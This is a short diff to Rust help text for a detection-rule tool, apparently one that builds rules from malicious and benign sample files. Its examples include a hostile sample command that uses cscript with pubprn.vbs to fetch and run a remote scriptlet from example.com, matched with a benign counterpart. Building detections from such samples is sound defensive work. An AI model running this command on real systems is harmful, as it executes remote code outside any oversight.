@@ -243,8 +243,8 @@ pub struct Evade {
 #[derive(Debug, clap::Args)]
 #[command(after_help = "\
 Examples:
-  printf '%s\\n' 'cscript .\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct' > bad.txt
-  printf '%s\\n' 'cscript .\\pubprn.vbs prn01.example.com script:check' > fine.txt
+  printf '%s\\n' 'cscript .\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct' | tee bad.txt
+  printf '%s\\n' 'cscript .\\pubprn.vbs prn01.example.com script:check' | tee fine.txt
   cutout suggest --rule t1216/pubprn --malicious bad.txt --benign fine.txt
   cutout suggest --rule t1216/pubprn --malicious bad.txt --benign fine.txt --apply 1
 
